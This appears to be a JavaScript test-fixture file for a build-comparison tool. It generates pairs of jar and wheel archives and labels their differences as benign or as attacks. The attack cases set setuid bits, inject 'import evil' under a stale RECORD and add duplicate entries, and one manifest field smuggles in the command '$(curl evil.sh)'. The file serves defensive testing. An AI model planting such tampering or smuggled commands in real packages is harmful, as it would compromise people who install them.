/** jar and wheel: zips whose readers never look at owners and modes, x bits aside. */

import { createHash } from 'node:crypto'
import { gzipSync, inflateRawSync } from 'node:zlib'
import { benign, evil, honest } from './cases.mjs'
import { patched, text, u32 } from './edit-bytes.mjs'
import { central, editEntries, editZip, setMode, storedAs, withEntry, zipParts } from './edit-zip.mjs'
import { python, T1, T2, touch } from './shell.mjs'

/* ---- jar ---- */

const manifest = (...lines) => `printf '${['Manifest-Version: 1.0', ...lines].join('\\n')}\\n' >m`
const classes = `mkdir -p j/org && printf '\\312\\376\\272\\276\\0\\0\\0\\101class' >j/org/A.class && seq 1 200 | sed 's/^/key/; s/$/=value/' >j/org/a.properties; ${touch(T1, 'j')}`
const tree = `${classes}; ${manifest()}`
const jarOf = date =>
  `jar --create --file out.jar --manifest m --date=${date} -C j org/A.class -C j org/a.properties; mv out.jar out`
const [D1, D2] = ['2023-11-14T22:13:20Z', '2024-12-12T10:40:00Z']
benign('jar/mtime', {
  why: 'The jar tool with another date.',
  tree,
  a: jarOf(D1),
  b: jarOf(D2),
  causes: ['archive-entry-mtime'],
  rules: ['entry-mtime'],
})

const names = 'META-INF/MANIFEST.MF org/A.class org/a.properties'
const jarByZip = (options, order = names) =>
  `mkdir -p j/META-INF; printf 'Manifest-Version: 1.0\\r\\nCreated-By: zip\\r\\n\\r\\n' >j/META-INF/MANIFEST.MF; ${touch(T1, 'j')}; cd j; zip -q ${options} ../out.zip ${order}; cd ..; mv out.zip out`
benign('jar/umask', {
  why: 'Another umask, owner and level: the JVM ignores them.',
  tree,
  a: jarByZip('-9X'),
  b: `umask 002; chmod -R g+w j; chown -R 4321:4321 j; ${jarByZip('-1')}`,
  causes: ['umask', 'compression-level'],
  rules: ['entry-mode', 'compression'],
})
benign('jar/order', {
  why: 'The names in another order; the manifest stays first.',
  tree,
  a: jarByZip('-9X'),
  b: jarByZip('-9X', 'META-INF/MANIFEST.MF org/a.properties org/A.class'),
  causes: ['archive-entry-order'],
  rules: ['entry-order'],
})
honest('jar/manifest-not-first', {
  twin: 'jar/order',
  attack: 'X7',
  why: 'JarInputStream only finds a manifest that comes first.',
  tree,
  a: jarByZip('-9X'),
  b: jarByZip('-9X', 'org/A.class org/a.properties META-INF/MANIFEST.MF'),
  causes: ['archive-entry-order'],
})
evil('jar/setuid', 'jar/umask', {
  attack: 'X1',
  why: 'A setuid bit means nothing to the JVM, but to whoever unpacks.',
  made: 'mode of org/A.class in b 4664',
  causes: ['permission-other'],
  b: zip => setMode(zip, 'org/A.class', 0o104664),
})
evil('jar/executable', 'jar/umask', {
  attack: 'X1',
  why: 'Nor does an x bit.',
  made: 'mode of org/a.properties in b 775',
  causes: ['permission-other'],
  b: zip => setMode(zip, 'org/a.properties', 0o100775),
})

const built = (...lines) => `${manifest(...lines)}; ${jarOf(D1)}`
const [alice, bob] = ['alice', 'bob'].map(name => `Built-By: ${name}`)
benign('jar/manifest-builder', {
  why: 'Another builder at another time, in the manifest as Maven and Ant write it.',
  tree: classes,
  a: built(alice, `Build-Date: ${D1}`),
  b: built(bob, `Build-Date: ${D2}`),
  causes: ['username', 'java-manifest-timestamp'],
  rules: ['manifest-builder'],
})
honest('jar/manifest-command', {
  twin: 'jar/manifest-builder',
  attack: 'X20',
  why: 'The builder is called like a command.',
  tree: classes,
  a: built(alice),
  b: built('Built-By: $(curl evil.sh)'),
})
honest('jar/manifest-main-class', {
  twin: 'jar/manifest-builder',
  attack: 'X20',
  why: 'Behind another builder stands another program to start.',
  tree: classes,
  a: built(alice, 'Main-Class: org.A'),
  b: built(bob, 'Main-Class: org.B'),
  causes: ['content-change'],
})
honest('jar/manifest-agent', {
  twin: 'jar/manifest-builder',
  attack: 'X20',
  why: 'Behind another builder stands an attribute that only one side has.',
  tree: classes,
  a: built(alice),
  b: built(bob, 'Launcher-Agent-Class: org.A'),
})

const contentOf = (zip, name) => {
  const one = zipParts(zip).entries.find(entry => entry.name === name)
  return one.central[central.method] ? inflateRawSync(one.data) : one.data
}
const sha256 = (content, as) => createHash('sha256').update(content).digest(as)
/** JAR File Specification, "Signature File", without the block that signs it. */
const signed = (zip, manifestOf) => {
  const digest = sha256(contentOf(manifestOf, 'META-INF/MANIFEST.MF'), 'base64')
  return withEntry(zip, 'META-INF/SIGNER.SF', `Signature-Version: 1.0\r\nSHA-256-Digest-Manifest: ${digest}\r\n\r\n`)
}
evil('jar/manifest-signed', 'jar/manifest-builder', {
  attack: 'X19',
  why: 'Another builder in the manifest of a signed jar: the signature file is the same, so one is refused.',
  made: 'META-INF/SIGNER.SF with the digest of the manifest of a, in both',
  causes: ['username'],
  a: one => signed(one, one),
  b: (zip, one) => signed(zip, one),
})

/* ---- wheel ---- */

const wheelOf = ({ mode = '644', time = T1, body = 'x = 1' } = {}) =>
  python(
    `import base64, hashlib
files = {'demo/__init__.py': '${body}\\n', 'demo-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\\nName: demo\\nVersion: 1.0\\n', 'demo-1.0.dist-info/WHEEL': 'Wheel-Version: 1.0\\nTag: py3-none-any\\n'}
digest = lambda text: base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b'=').decode()
files['demo-1.0.dist-info/RECORD'] = ''.join(f'{name},sha256={digest(text)},{len(text)}\\n' for name, text in files.items()) + 'demo-1.0.dist-info/RECORD,,\\n'
with zipfile.ZipFile('out', 'w', zipfile.ZIP_DEFLATED) as z:
    for name, text in files.items():
        one = zipfile.ZipInfo(name, time.gmtime(T)[:6]); one.create_system = 3; one.external_attr = 0o100${mode} << 16; one.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(one, text)`,
    time,
  )
const files = ['demo-1.0-py3-none-any.whl', 'demo-1.0-1-py3-none-any.whl']
benign('wheel/umask', {
  files,
  why: 'Another umask and time: pip ignores read and write bits.',
  made: "Python's zipfile with mode 644, and with 664 at another time",
  a: wheelOf(),
  b: wheelOf({ mode: '664', time: T2 }),
  causes: ['umask', 'archive-entry-mtime'],
  rules: ['entry-mode', 'entry-mtime'],
})
honest('wheel/executable', {
  files,
  twin: 'wheel/umask',
  attack: 'X1',
  why: 'pip keeps x bits.',
  made: "Python's zipfile with mode 644, and with 755",
  a: wheelOf(),
  b: wheelOf({ mode: '755' }),
  causes: ['permission-other'],
})
honest('wheel/changed-file', {
  files,
  why: 'A module changed; RECORD follows.',
  made: "Python's zipfile, digests in RECORD right on both sides",
  a: wheelOf(),
  b: wheelOf({ body: 'x = 2' }),
  causes: ['content-change'],
})
const module_ = 'demo/__init__.py'
evil('wheel/setuid', 'wheel/umask', {
  attack: 'X1',
  why: 'A setuid bit is no read or write bit.',
  made: `mode of ${module_} in b 4664`,
  causes: ['permission-other'],
  b: zip => setMode(zip, module_, 0o104664),
})
const replacedBy = text => entries => entries.map(one => (one.name === module_ ? storedAs(one, text) : one))
evil('wheel/stale-record', 'wheel/umask', {
  attack: 'X19',
  why: 'A module changed and RECORD did not.',
  made: `content of ${module_} in b`,
  causes: ['content-change'],
  b: zip => editEntries(zip, replacedBy('import evil\n')),
})
evil('wheel/duplicate', 'wheel/umask', {
  attack: 'X6',
  why: 'A second entry of one name: installers disagree which one counts.',
  made: `${module_} twice in b`,
  causes: ['structural:duplicate-entry'],
  b: zip => editEntries(zip, entries => [...entries, storedAs(entries[0], 'import evil\n')]),
})
/** The same content compressed at another time (RFC 1952, MTIME). */
const packedAt = time => patched(gzipSync('key=value\n'), [[4, u32(time)]])
const record = 'demo-1.0.dist-info/RECORD'
const listing = content => entry => {
  const digest = sha256(packedAt(T1), 'base64url')
  return storedAs(entry, `${text(content, 0, content.length)}demo/data.gz,sha256=${digest},${packedAt(T1).length}\n`)
}
const withData = (zip, time) => withEntry(editZip(zip, record, listing(contentOf(zip, record))), 'demo/data.gz', packedAt(time))
evil('wheel/record-of-other-bytes', 'wheel/umask', {
  attack: 'X19',
  why: 'A compressed file of another time under the digest of the first one: installers refuse it.',
  made: 'demo/data.gz in both, in RECORD with the digest of the one in a',
  causes: ['gzip-header-mtime'],
  a: zip => withData(zip, T1),
  b: zip => withData(zip, T2),
})
